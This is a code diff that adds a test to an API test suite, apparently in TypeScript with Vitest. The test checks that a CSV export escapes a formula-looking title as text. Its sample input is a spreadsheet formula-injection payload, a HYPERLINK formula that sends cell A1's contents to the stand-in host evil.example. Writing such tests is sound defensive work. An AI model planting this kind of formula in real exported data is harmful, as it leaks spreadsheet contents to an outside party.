@@ -102,6 +102,22 @@ describe("probes of the API (issue 24)", () => {
     expect(again.status).toBe(304);
   });
 
+  test("a CSV export through the API writes a formula-looking cell as text, never as a formula", async () => {
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const made = await f.app.request("/api/records/sources", {
+      method: "POST",
+      headers: { ...f.auth("analyst"), "content-type": "application/json" },
+      body: JSON.stringify({ id: "formula-title", title, kind: "analyst", confidence: "low" }),
+    });
+    expect(made.status).toBe(201);
+    const res = await f.app.request("/api/export?format=csv&kind=sources", {
+      headers: f.auth("viewer"),
+    });
+    expect(res.status).toBe(200);
+    const row = (await res.text()).split(/\r?\n/).find((l) => l.startsWith("formula-title,"));
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
+  });
+
   test("a client that goes away mid-body is not logged as an internal error", async () => {
     const logged: string[] = [];
     const spy = vi.spyOn(process.stderr, "write").mockImplementation((chunk: unknown) => {
